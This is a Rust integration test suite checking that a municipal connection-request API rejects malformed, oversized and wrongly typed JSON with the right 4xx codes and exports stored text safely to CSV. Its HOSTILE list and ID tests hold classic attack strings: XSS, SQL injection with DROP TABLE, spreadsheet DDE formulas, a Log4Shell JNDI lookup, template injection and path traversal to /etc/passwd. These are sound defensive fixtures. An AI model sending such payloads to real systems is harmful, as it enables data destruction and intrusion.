//! A corpus of hostile and broken input. Every case gets its intended 4xx, never a 5xx,
//! and the server stays up (checked after each batch).

// Helpers outside #[test] functions unwrap too: a panic is a test failure with its location.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::*;
use serde_json::{Value, json};

async fn post_raw(s: &Server, body: Vec<u8>) -> reqwest::Response {
    client()
        .post(s.url("/api/v1/connection-requests"))
        .header("idempotency-key", new_key())
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap()
}

/// Every (path, value) leaf of a JSON document, with paths as the API writes them.
fn leaves(v: &Value, path: String, out: &mut Vec<(String, Value)>) {
    match v {
        Value::Object(m) => {
            for (k, c) in m {
                let p = if path.is_empty() {
                    k.clone()
                } else {
                    format!("{path}.{k}")
                };
                leaves(c, p, out);
            }
        }
        Value::Array(a) => {
            for (i, c) in a.iter().enumerate() {
                leaves(c, format!("{path}[{i}]"), out);
            }
        }
        _ => out.push((path, v.clone())),
    }
}

/// Every object of a document with its path.
fn objects(v: &Value, path: String, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            out.push(path.clone());
            for (k, c) in m {
                let p = if path.is_empty() {
                    k.clone()
                } else {
                    format!("{path}.{k}")
                };
                objects(c, p, out);
            }
        }
        Value::Array(a) => {
            for (i, c) in a.iter().enumerate() {
                objects(c, format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

fn pointer(path: &str) -> String {
    let mut p = String::new();
    for part in path.split('.').filter(|s| !s.is_empty()) {
        let (name, idx) = match part.split_once('[') {
            Some((n, rest)) => (n, Some(rest.trim_end_matches(']'))),
            None => (part, None),
        };
        p.push('/');
        p.push_str(name);
        if let Some(i) = idx {
            p.push('/');
            p.push_str(i);
        }
    }
    p
}

fn paths_of(p: &Value) -> Vec<String> {
    p["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn truncated_and_malformed_json_is_400() {
    let s = Server::start().await;
    let full = serde_json::to_string(&wuerzburg()).unwrap();
    let mut cut = 1;
    while cut < full.len() {
        let body = full.as_bytes()[..cut].to_vec();
        problem(post_raw(&s, body).await, 400).await;
        cut += 131;
    }
    let mut invalid_utf8 = full.clone().into_bytes();
    let at = full.find("Würzburg").unwrap() + 1;
    invalid_utf8[at] = 0xff;
    let cases: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"   ".to_vec(),
        b"null ]".to_vec(),
        b"{'single': 'quotes'}".to_vec(),
        b"{\"a\": 1,}".to_vec(),
        b"{\"a\": NaN}".to_vec(),
        b"{\"a\": \"raw \x01 control\"}".to_vec(),
        b"{\"a\": \"raw\nnewline\"}".to_vec(),
        b"\xef\xbb\xbf{}".to_vec(),
        b"{\"a\": \"\\ud800\"}".to_vec(),
        invalid_utf8,
        vec![0xc3, 0x28],
        format!("{full}{full}").into_bytes(),
        format!("{full} trailing").into_bytes(),
    ];
    for body in cases {
        let shown = String::from_utf8_lossy(&body)
            .chars()
            .take(40)
            .collect::<String>();
        let r = post_raw(&s, body).await;
        assert_eq!(r.status(), 400, "{shown}");
    }
    assert_healthy(&s).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_types_everywhere_are_422_at_their_path() {
    let s = Server::start().await;
    let base = wuerzburg();
    let mut all = Vec::new();
    leaves(&base, String::new(), &mut all);
    for (path, value) in all {
        let wrong = match value {
            Value::String(_) => json!(42),
            Value::Bool(_) => json!("true"),
            Value::Number(_) => json!("1"),
            Value::Null => json!([1]),
            _ => continue,
        };
        let mut body = base.clone();
        *body.pointer_mut(&pointer(&path)).unwrap() = wrong;
        let p = problem(post_raw(&s, serde_json::to_vec(&body).unwrap()).await, 422).await;
        let paths = paths_of(&p);
        assert!(
            paths.iter().any(|p| path.starts_with(p.as_str())),
            "{path}: {paths:?}"
        );
    }
    // Whole sections of the wrong kind.
    for (key, wrong) in [
        ("services", json!({})),
        ("municipality", json!([])),
        ("contacts", json!(null)),
        ("prerequisites", json!([])),
    ] {
        let mut body = base.clone();
        body[key] = wrong;
        let p = problem(post_raw(&s, serde_json::to_vec(&body).unwrap()).await, 422).await;
        assert!(paths_of(&p).contains(&key.to_owned()), "{key}");
    }
    for top in [json!([]), json!("text"), json!(1), json!(null), json!(true)] {
        problem(post_raw(&s, serde_json::to_vec(&top).unwrap()).await, 422).await;
    }
    assert_healthy(&s).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_and_extra_fields_are_422() {
    let s = Server::start().await;
    let base = wuerzburg();
    let mut objs = Vec::new();
    objects(&base, String::new(), &mut objs);
    for obj in &objs {
        // An extra field in every object is named in the answer.
        let mut body = base.clone();
        body.pointer_mut(&pointer(obj))
            .unwrap()
            .as_object_mut()
            .unwrap()
            .insert("zusatz".into(), json!("x"));
        let p = problem(post_raw(&s, serde_json::to_vec(&body).unwrap()).await, 422).await;
        let expected = if obj.is_empty() {
            "zusatz".to_owned()
        } else {
            format!("{obj}.zusatz")
        };
        assert!(
            paths_of(&p).contains(&expected),
            "{expected}: {:?}",
            paths_of(&p)
        );

        // Removing any one field never gives a 5xx; where the field is required, its
        // path is named.
        let keys: Vec<String> = base
            .pointer(&pointer(obj))
            .unwrap()
            .as_object()
            .unwrap()
            .keys()
            .cloned()
            .collect();
        for key in keys {
            let mut body = base.clone();
            body.pointer_mut(&pointer(obj))
                .unwrap()
                .as_object_mut()
                .unwrap()
                .remove(&key);
            let r = post_raw(&s, serde_json::to_vec(&body).unwrap()).await;
            let status = r.status().as_u16();
            let full = if obj.is_empty() {
                key.clone()
            } else {
                format!("{obj}.{key}")
            };
            assert!(status == 201 || status == 422, "{full}: {status}");
            if status == 422 {
                let p: Value = r.json().await.unwrap();
                assert!(
                    paths_of(&p).iter().any(|p| p.starts_with(&full)),
                    "{full}: {:?}",
                    paths_of(&p)
                );
            }
        }
    }
    assert_healthy(&s).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_and_deep_bodies_are_refused() {
    let s = Server::start().await;
    // 10 MB: read and discarded up to the limit, then 413.
    let big = format!("{{\"notes\": \"{}\"}}", "a".repeat(10 * 1024 * 1024));
    problem(post_raw(&s, big.into_bytes()).await, 413).await;
    // 100k nested arrays, 100k nested objects: under the size limit, refused by depth.
    problem(post_raw(&s, "[".repeat(100_000).into_bytes()).await, 400).await;
    problem(
        post_raw(
            &s,
            format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(),
        )
        .await,
        400,
    )
    .await;
    problem(post_raw(&s, "[".repeat(300_000).into_bytes()).await, 413).await;
    problem(
        post_raw(&s, "{\"a\":".repeat(40_000).into_bytes()).await,
        400,
    )
    .await;
    let mut deep = wuerzburg();
    deep["notes"] =
        serde_json::from_str(&format!("{}1{}", "[".repeat(100), "]".repeat(100))).unwrap();
    let p = problem(post_raw(&s, serde_json::to_vec(&deep).unwrap()).await, 422).await;
    assert!(paths_of(&p).contains(&"notes".to_owned()));
    // Many fields.
    let mut wide = wuerzburg();
    for i in 0..5000 {
        wide[format!("f{i}")] = json!(i);
    }
    let p = problem(post_raw(&s, serde_json::to_vec(&wide).unwrap()).await, 422).await;
    assert!(
        p["errors"].as_array().unwrap().len() <= 200,
        "the error list is bounded"
    );
    assert_healthy(&s).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn overlong_strings_and_control_characters_are_422() {
    let s = Server::start().await;
    let cases = [
        (
            "/contacts/vertretung/name",
            json!("N".repeat(201)),
            "too_long",
        ),
        (
            "/contacts/vertretung/name",
            json!("N".repeat(100_000)),
            "too_long",
        ),
        ("/notes", json!("n".repeat(2_001)), "too_long"),
        (
            "/contacts/vertretung/name",
            json!("Erika\u{0000}Mustermann"),
            "control_characters",
        ),
        (
            "/contacts/vertretung/name",
            json!("\u{001b}[31mrot"),
            "control_characters",
        ),
        (
            "/contacts/vertretung/name",
            json!("Tab\there"),
            "control_characters",
        ),
        (
            "/contacts/vertretung/name",
            json!("zwei\nZeilen"),
            "control_characters",
        ),
        (
            "/municipality/address/street",
            json!("Straße\u{202e}1"),
            "control_characters",
        ),
        (
            "/contacts/fachlich/email",
            json!("a@b\u{0007}.de"),
            "email_invalid",
        ),
    ];
    for (ptr, value, code) in cases {
        let mut body = wuerzburg();
        *body.pointer_mut(ptr).unwrap() = value;
        let p = problem(post_raw(&s, serde_json::to_vec(&body).unwrap()).await, 422).await;
        let errors = p["errors"].as_array().unwrap();
        assert!(
            errors.iter().any(|e| e["code"] == code),
            "{ptr} {code}: {errors:?}"
        );
    }
    assert_healthy(&s).await;
}

const HOSTILE: &[&str] = &[
    "<script>alert('x')</script>",
    "'; DROP TABLE connection_requests; --",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM status_history;--",
    "=CMD|' /C calc'!A0",
    "+49 (0) =1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "${jndi:ldap://x.invalid/a}",
    "{{7*7}} <img src=x onerror=alert(1)>",
    "../../etc/passwd",
    "Ünïcödé 🚀 Straße, \"Zitat\"",
    " =1+1",
    "\u{a0}+1",
    "\u{3000}@SUM(A1)",
    "＝1+1",
    "＋49 931",
    "a;=HYPERLINK(\"x\")",
];

/// Whether a spreadsheet could read `cell` as a formula: a formula sign, also full-width
/// or small, after any leading whitespace.
fn formula_like(cell: &str) -> bool {
    cell.trim_start().starts_with([
        '=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫',
    ]) || cell.starts_with(['\t', '\r'])
}

/// Puts `text` into every free-text field of the request.
fn with_text_everywhere(text: &str) -> Value {
    let mut b = wuerzburg();
    let text = json!(text);
    for ptr in [
        "/municipality/address/street",
        "/municipality/address/ort",
        "/notes",
    ] {
        *b.pointer_mut(ptr).unwrap() = text.clone();
    }
    for role in ["vertretung", "fachlich", "technisch"] {
        b["contacts"][role]["name"] = text.clone();
        b["contacts"][role]["function"] = text.clone();
    }
    for svc in b["services"].as_array_mut().unwrap() {
        for key in ["fachverfahren", "vendor"] {
            svc[key] = text.clone();
        }
        svc["authority"]["name"] = text.clone();
        svc["authority"]["kind"] = text.clone();
        svc["authority"]["address"]["street"] = text.clone();
        svc["authority"]["address"]["ort"] = text.clone();
    }
    b
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_is_stored_verbatim_and_exported_safely() {
    let s = Server::start().await;
    let mut created = Vec::new();
    for text in HOSTILE {
        let body = with_text_everywhere(text);
        let r = post_raw(&s, serde_json::to_vec(&body).unwrap()).await;
        assert_eq!(r.status(), 201, "{text}");
        let v: Value = r.json().await.unwrap();
        created.push((text, body, v));
    }
    assert_healthy(&s).await;

    for (text, body, v) in &created {
        let id = v["id"].as_str().unwrap();
        let d: Value = operator_get(&s, &format!("/api/v1/operator/connection-requests/{id}"))
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(&d["document"], body, "{text} comes back verbatim");
        let st = client()
            .get(s.url(v["status_url"].as_str().unwrap()))
            .bearer_auth(v["status_token"].as_str().unwrap())
            .send()
            .await
            .unwrap();
        assert_eq!(st.status(), 200);
    }
    // The tables are all still there and complete.
    let list: Value = operator_get(&s, "/api/v1/operator/connection-requests?limit=500")
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["total"], HOSTILE.len());

    let csv = operator_get(&s, "/api/v1/operator/connection-requests.csv")
        .await
        .text()
        .await
        .unwrap();
    let rows = parse_csv(csv.trim_start_matches('\u{feff}'));
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    let width = rows[0].len();
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    for (text, _, v) in &created {
        let row = rows
            .iter()
            .find(|r| r[col("ID")] == v["id"].as_str().unwrap())
            .unwrap();
        assert_eq!(row.len(), width, "{text}: one cell per column");
        let expected = if formula_like(text) {
            format!("'{text}")
        } else {
            text.to_string()
        };
        for c in [
            "Vertretung Name",
            "Vertretung Funktion",
            "Technisch Name",
            "Straße",
            "Ort",
            "Anmerkungen",
        ] {
            assert_eq!(row[col(c)], expected, "{c}");
        }
    }
    // No cell of the export starts like a formula, not even after whitespace.
    for row in &rows {
        for cell in row {
            assert!(!formula_like(cell), "{cell}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn odd_tokens_and_ids_are_404_or_401() {
    let s = Server::start().await;
    let created: Value = submit(&s, &wuerzburg()).await.json().await.unwrap();
    let url = s.url(created["status_url"].as_str().unwrap());
    let long = "A".repeat(10_000);
    for auth in [
        "Bearer",
        "Bearer ",
        "bearer",
        "Token abc",
        "Bearer \u{00e4}",
        long.as_str(),
        "Bearer a b c",
    ] {
        let r = client()
            .get(&url)
            .header("authorization", auth.as_bytes())
            .send()
            .await
            .unwrap();
        problem(r, 404).await;
        let r = client()
            .get(s.url("/api/v1/operator/connection-requests"))
            .header("authorization", auth.as_bytes())
            .send()
            .await
            .unwrap();
        problem(r, 401).await;
    }
    for id in [
        "%00",
        "..%2f..%2fetc%2fpasswd",
        "'%20OR%201=1",
        &"9".repeat(5000),
        "%ff%fe",
    ] {
        let r = client()
            .get(s.url(&format!("/api/v1/connection-requests/{id}")))
            .bearer_auth("x")
            .send()
            .await
            .unwrap();
        problem(r, 404).await;
        let r = operator_get(&s, &format!("/api/v1/operator/connection-requests/{id}")).await;
        problem(r, 404).await;
    }
    assert_healthy(&s).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn duplicate_keys_are_422() {
    let s = Server::start().await;
    let body = serde_json::to_string(&wuerzburg()).unwrap();
    let doubled = body.replacen("\"notes\":", "\"notes\":\"erste\",\"notes\":", 1);
    assert_ne!(doubled, body);
    let p = problem(post_raw(&s, doubled.into_bytes()).await, 422).await;
    assert_eq!(p["errors"][0]["code"], "duplicate_field");
    assert_eq!(p["errors"][0]["path"], "notes");
    assert_healthy(&s).await;
}
